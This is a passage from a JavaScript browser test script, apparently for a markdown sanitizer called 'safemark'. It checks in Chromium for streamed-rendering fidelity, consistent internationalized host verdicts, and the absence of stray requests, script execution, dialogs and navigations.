        if (lost && garbage.length < 3) garbage.push(`${JSON.stringify(lost)} lost after ${JSON.stringify(input.slice(-60))}`);
        const extra = [...seen].filter((x) => !/\s/.test(x) && !chars.has(x));
        if (extra.length && garbage.length < 3) garbage.push(`${JSON.stringify(extra.join(''))} in …${JSON.stringify(seen.slice(-60))}`);
        // Healing may hide a marker, never add one: no more of each than the input so far
        // has, or its batch render shows (`&#42;` is a `*`).
        const batch = visible(s.renderMarkdown(input));
        const added = [...'*_`~'].filter((d) => count(seen, d) > Math.max(count(input, d), count(batch, d))).join('');
        if (added && garbage.length < 3) garbage.push(`more ${JSON.stringify(added)} than ${JSON.stringify(input.slice(-60))} has: …${JSON.stringify(seen.slice(-60))}`);
        if (!figure) {
          escaped++;
          return;
        }
        states++;
        if (final.startsWith(aside(seen))) prefixes++;
        else if (flicker.length < 3) flicker.push(JSON.stringify(seen.slice(-60)));
      }, lostText);
      s.free();
    }
    box.remove();
    return { states, prefixes, escaped, garbage, flicker, readBack, notReadBack };
  }, { answers, htmlBlocks, lostSource: lostText.toString(), statesSource: streamStates.toString() });
  const figure = (100 * reading.prefixes) / reading.states;
  console.log(`# reading a streamed answer in Chromium: ${reading.prefixes}/${reading.states} states (${figure.toFixed(2)}%) a prefix of the final text; garbage or text lost in ${reading.garbage.length} states (and ${reading.escaped} states of HTML blocks shown as text)`);
  if (reading.garbage.length) fail(`streamed answer shows characters or markers not in the input, or loses text: ${reading.garbage.join('; ')}`);
  if (figure < 99) fail(`streamed answer flickers: ${figure.toFixed(2)}% of states a prefix (${reading.flicker.join('; ')})`);
  console.log(`# stream states and their batch renders read back by Chromium as written: ${reading.readBack - reading.notReadBack.length} of ${reading.readBack}`);
  if (reading.notReadBack.length || reading.readBack < 10000) fail(`stream states Chromium reads into another tree: ${JSON.stringify(reading.notReadBack)}`);

  // Internationalized hosts (wasm/Cargo.lock pins idna_adapter 1.0: IDNA is the platform's):
  // in Chromium, whose URL parser applies all of UTS #46, both entries judge every generated
  // host as the native CLI (ICU4X) does, apart from hosts where Chromium's own parser and
  // ICU4X disagree on validity, which are counted.
  const idnHosts = hosts(1500);
  const idnNative = nativeVerdicts(nativeCli(), idnHosts);
  const idn = await page.evaluate(({ list, want }) => {
    const differ = [];
    let same = 0, platformDisagrees = 0, punycode = 0;
    const disagreeing = new Set();
    list.forEach((h, i) => {
      let chromiumValid = true;
      try { new URL(`https://${h}/`); } catch { chromiumValid = false; }
      const nativeValid = want[i][0] !== 'invalid_url';
      for (const entry of [window.safemark, window.safemarkLite]) {
        const v = entry.judgeLink(`https://${h}/`);
        if (v.reason === want[i][0] && v.host === want[i][1]) {
          same++;
          if (v.host?.includes('xn--')) punycode++;
        } else if (want[i][0] !== 'invisible_characters' && chromiumValid !== nativeValid) {
          platformDisagrees++;
          disagreeing.add(h);
        }
        else if (differ.length < 3) differ.push(`${JSON.stringify(h)}: ${v.reason} ${v.host}, native ${want[i]}`);
      }
    });
    return { same, platformDisagrees, punycode, differ, disagreeing: [...disagreeing] };
  }, { list: idnHosts, want: idnNative });
  console.log(`# internationalized hosts in Chromium: ${idn.same} of ${2 * idnHosts.length} verdicts (full and lite) equal to the native CLI's, ${idn.punycode} of them shown in punycode; ${idn.platformDisagrees} on hosts where Chromium's URL parser and ICU4X disagree (${idn.disagreeing.map((h) => JSON.stringify(h)).join(', ')})`);
  if (idn.differ.length) fail(`internationalized hosts judged unlike the native CLI: ${idn.differ.join('; ')}`);
  if (idn.punycode < idnHosts.length / 2) fail(`only ${idn.punycode} punycode hosts shown`);

  console.log(`# rendered ${result.rendered} documents in Chromium (${result.renderedLite} of them through safemark/lite, ${result.renderedNoWasm} through safemark/lite/nowasm); ${result.benignElements} benign elements present`);
  console.log(`# requests to policy-allowed images: ${allowedImages}; other requests beyond the page's files: ${stray.length}; tripwires: ${tripped.length}; dialogs: ${dialogs}; popups: ${popups}; navigations: ${navigations.length - 1}`);
  console.log(`# Chromium: 20 KB answer rendered in ${ms.toFixed(3)} ms`);
  if (!controlSeen) fail('negative control: an unsanitized image request went unnoticed');
  if (result.rendered < 1000) fail(`only ${result.rendered} documents rendered`);
  if (result.renderedLite < 500) fail(`only ${result.renderedLite} documents rendered through safemark/lite`);
  if (result.renderedNoWasm < 500) fail(`only ${result.renderedNoWasm} documents rendered through safemark/lite/nowasm`);
  if (result.benignElements < 50) fail(`benign content missing (${result.benignElements} elements)`);
  if (stray.length) fail(`requests made: ${stray.slice(0, 10).join(', ')}`);
  if (tripped.length) fail(`script ran: ${tripped.slice(0, 10).join(', ')}`);
  if (dialogs || popups) fail(`dialogs ${dialogs}, popups ${popups}`);
  if (navigations.length !== 1) fail(`navigated: ${navigations.join(', ')}`);
  if (result.loaders || result.handlers) fail(`loading elements ${result.loaders}, handlers ${result.handlers}`);
  if (untrustedClicks.length) fail(`clickable untrusted links: ${untrustedClicks.slice(0, 5)}`);
} finally {
  await browser.close();
  server.close();
}
const checks = 38;
console.log(`browser: ${checks - failures} passed, ${failures} failed`);
process.exit(failures ? 1 : 0);
